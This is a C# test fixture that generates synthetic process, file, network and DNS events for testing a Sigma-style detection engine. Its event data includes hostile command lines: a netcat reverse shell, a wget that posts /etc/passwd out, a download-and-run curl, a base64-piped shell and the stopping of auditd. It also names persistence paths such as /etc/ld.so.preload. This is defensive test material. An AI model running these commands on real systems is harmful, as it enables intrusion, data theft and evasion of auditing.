using Osprey.Contracts.V1;

namespace Osprey.Detection.Tests.Sigma;

/// <summary>A deterministic mix of events for engine tests: ordinary activity plus what the corpus rules look for.</summary>
internal static class SigmaWorkload
{
    private static readonly (string Image, string[] Argv)[] Programs =
    [
        ("/usr/bin/ls", ["ls", "-la", "/var/log"]),
        ("/usr/bin/curl", ["curl", "-s", "-o", "/tmp/x.sh", "http://203.0.113.5/x.sh"]),
        ("/usr/bin/sh", ["sh", "-c", "echo aWQ= | base64 -d | sh"]),
        ("/usr/bin/chmod", ["chmod", "u+s", "/tmp/rootshell"]),
        ("/usr/bin/python3", ["python3", "-c", "import pty;pty.spawn(\"/bin/bash\")"]),
        ("/usr/bin/nc", ["nc", "-e", "/bin/sh", "10.0.0.9", "4444"]),
        ("/usr/bin/kmod", ["insmod", "/tmp/r.ko"]),
        ("/usr/bin/crontab", ["crontab", "-l"]),
        ("/usr/bin/wget", ["wget", "--post-file=/etc/passwd", "http://x"]),
        ("/usr/bin/systemctl", ["systemctl", "stop", "auditd"]),
        ("/usr/bin/find", ["find", "/", "-perm", "-4000", "-exec", "sh", ";"]),
        ("/usr/bin/tar", ["tar", "-czf", "/tmp/out file.tgz", "/etc"]),
        ("/usr/bin/git", ["git", "status"]),
        ("/usr/bin/id", ["id"]),
    ];

    private static readonly string[] Paths =
    [
        "/etc/cron.d/job", "/home/alice/notes.txt", "/etc/ld.so.preload", "/tmp/rootlog", "/var/log/syslog", "/etc/sudoers.d/x",
        "/usr/lib/python3.12/site-packages/a.pth", "/etc/profile.d/evil.sh",
    ];

    public static List<Event> Events(int count, int seed)
    {
        var random = new Random(seed);
        var events = new List<Event>(count);
        for (var i = 0; i < count; i++)
        {
            var (image, argv) = Programs[random.Next(Programs.Length)];
            var path = Paths[random.Next(Paths.Length)];
            events.Add((i % 10) switch
            {
                < 4 => SigmaEvents.Exec(image, argv, uid: random.Next(3) == 0 ? "33" : "0", spawn: random.Next(8) == 0 ? "fork" : "execve"),
                4 => SigmaEvents.FileCreate(path, image),
                5 => SigmaEvents.FileModify(path, image),
                6 => random.Next(2) == 0 ? SigmaEvents.FileRename("/tmp/t", path, image) : SigmaEvents.FileDelete(path, image),
                7 or 8 => SigmaEvents.Connection(image, "10.0.0.5", 40000 + i, random.Next(2) == 0 ? "203.0.113.9" : "10.0.0.7", random.Next(2) == 0 ? 4444 : 443,
                    random.Next(4) == 0 ? Direction.Inbound : Direction.Outbound),
                _ => SigmaEvents.Dns(random.Next(2) == 0 ? "x.ngrok.io" : "debian.org", image, "NOERROR", "192.0.2.1"),
            });
        }

        return events;
    }
}
